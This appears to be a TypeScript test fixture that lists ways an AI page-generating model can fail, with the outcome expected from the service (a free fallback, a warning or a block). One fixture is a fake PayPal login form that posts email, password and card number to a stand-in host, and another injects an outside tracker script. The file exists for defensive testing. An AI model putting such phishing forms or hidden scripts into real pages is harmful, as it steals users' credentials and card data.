import {
  answering,
  cutByLength,
  htmlErrorPage,
  silent,
  socketCutAfter,
  stallingAfter,
  unauthorized,
  type Behaviour,
} from '../behaviours.ts';
import { delta, textSteps, type Step } from '../sse.ts';
import { FLORIST_HEADLINE, FLORIST_LAST_LINE, FLORIST_PAGE } from './pages/florist.ts';

/** What the person must see when the generation of a page is over. */
export type FaultOutcome =
  /** A complete page of the built-in designer that says so, free of charge; or nothing changed and the reason told. */
  | 'free'
  /** The model's own page, complete, for a credit. */
  | 'page'
  /** The model's own page for a credit, with a warning beside it. */
  | 'warned'
  /** As `warned`, and visitors of its address do not see it. */
  | 'blocked';

/** One way in which a model fails, or writes what it should not, when it is asked for a new page. */
export interface FaultTrial {
  /** Also the id of the model that does it. */
  id: string;
  name: string;
  request?: string;
  script: readonly [Behaviour, ...Behaviour[]];
  outcome: FaultOutcome;
  /** What the warning must name. */
  warning?: RegExp;
}

const CUT_AT = FLORIST_PAGE.indexOf('<section id="weddings">');
const HALF = FLORIST_PAGE.slice(0, CUT_AT);
const LINE = '<p>And another paragraph about flowers that nobody asked for.</p>\n';
const WRITE_EVERY_MS = 5;

/** Writes the start and then, without end, one piece after the other. */
function endless(start: readonly Step[], piece: Step): Behaviour {
  return (_request, signal) => {
    const encoder = new TextEncoder();
    const write = (step: Step): Uint8Array =>
      encoder.encode('data' in step ? `data: ${JSON.stringify(step.data)}\n\n` : '\n');
    const left = [...start];
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        if (signal.aborted) return controller.close();
        const step = left.shift();
        if (step === undefined) {
          await new Promise((resolve) => setTimeout(resolve, WRITE_EVERY_MS));
        }
        controller.enqueue(write(step ?? piece));
      },
    });
    return new Response(body, { headers: { 'content-type': 'text/event-stream' } });
  };
}

/** Repeats its last line and goes on, as it is asked to after its limit. */
const CONTINUATION = `${HALF.trimEnd().split('\n').at(-1) ?? ''}\n${FLORIST_PAGE.slice(CUT_AT)}`;

const ENGLISH_FOR_ITALIAN = 'Un sito per una fioraia di Palermo, in italiano';
const WITH_SCRIPT = FLORIST_PAGE.replace(
  '</head>',
  '<script src="https://cdn.tracker-example.com/pixel.js"></script>\n</head>',
);
const PHISHING = FLORIST_PAGE.replace('Zagara – a florist in Palermo', 'PayPal – log in').replace(
  '<section id="weddings">',
  `<section id="login"><h2>Log in to PayPal</h2><form action="https://paypal-secure.example.net/collect" method="post">
<label>E-mail <input type="email" name="email"></label><label>Password <input type="password" name="password"></label>
<label>Card number <input name="card" autocomplete="cc-number"></label><button>Log in to PayPal</button></form></section>
<section id="weddings">`,
);
const DEAD_SCRIPT = FLORIST_PAGE.replace(
  '</body>',
  "<script>\ndocument.querySelector('.button').addEventListener('click', () => {\n  console.log('hello';\n});\n</script>\n</body>",
);

/** Refused before anything was written. */
const REFUSED_AT_ONCE: readonly FaultTrial[] = [
  { id: 'status-401', name: 'answers 401', script: [unauthorized], outcome: 'free' },
  {
    id: 'proxy-page',
    name: 'is a proxy with a page of its own',
    script: [htmlErrorPage],
    outcome: 'free',
  },
  {
    id: 'refusal',
    name: 'refuses in words',
    script: [answering('I’m sorry, but I can’t help with that request.')],
    outcome: 'free',
  },
  {
    id: 'fragment',
    name: 'writes a piece of a page',
    script: [answering('<section class="hero"><h2>Flowers</h2></section>')],
    outcome: 'free',
  },
];

/** Time and connections. */
const BROKEN_OFF: readonly FaultTrial[] = [
  { id: 'silent', name: 'never begins', script: [silent], outcome: 'free' },
  {
    id: 'hang',
    name: 'hangs in the middle of the page',
    script: [stallingAfter(HALF)],
    outcome: 'free',
  },
  {
    id: 'drop',
    name: 'drops the connection in the middle',
    script: [socketCutAfter(HALF)],
    outcome: 'free',
  },
  {
    id: 'endless-page',
    name: 'never comes to the end of the page',
    script: [endless(textSteps(HALF, null), delta({ content: LINE.repeat(40) }))],
    outcome: 'free',
  },
  {
    id: 'endless-talk',
    name: 'goes on talking after the page',
    script: [endless(textSteps(FLORIST_PAGE, null), delta({ content: 'I hope you like it! ' }))],
    outcome: 'page',
  },
  {
    id: 'endless-thoughts',
    name: 'never stops thinking',
    script: [endless([], delta({ reasoning_content: 'Perhaps peonies. Or not. '.repeat(10) }))],
    outcome: 'free',
  },
  {
    id: 'limit-good',
    name: 'reaches its token limit and goes on where it was',
    script: [cutByLength(HALF), answering(CONTINUATION)],
    outcome: 'page',
  },
  {
    id: 'limit-again',
    name: 'reaches its token limit and begins again each time',
    script: [cutByLength(HALF)],
    outcome: 'free',
  },
];

/** Complete pages that their owner has to be warned of. */
const FAULTY_PAGES: readonly FaultTrial[] = [
  {
    id: 'language',
    name: 'writes in another language than asked for',
    request: ENGLISH_FOR_ITALIAN,
    script: [answering(FLORIST_PAGE)],
    outcome: 'warned',
    warning: /lingua|italiano|inglese/i,
  },
  {
    id: 'foreign-script',
    name: 'loads a script from another host',
    script: [answering(WITH_SCRIPT)],
    outcome: 'warned',
    warning: /tracker-example\.com/,
  },
  {
    id: 'phishing',
    name: 'imitates the login of a bank',
    script: [answering(PHISHING)],
    outcome: 'blocked',
    warning: /password|card|PayPal/i,
  },
  {
    id: 'dead-script',
    name: 'writes JavaScript that does not parse',
    script: [answering(DEAD_SCRIPT)],
    outcome: 'warned',
    warning: /script/i,
  },
];

export const FAULTS: readonly FaultTrial[] = [...REFUSED_AT_ONCE, ...BROKEN_OFF, ...FAULTY_PAGES];

/** True for a page that was cut off: it has the beginning and lacks the end, or has its beginning twice. */
export function isHalfPage(html: string): boolean {
  const begins = html.split(FLORIST_HEADLINE).length - 1;
  return begins > 1 || (begins === 1 && !html.includes(FLORIST_LAST_LINE));
}
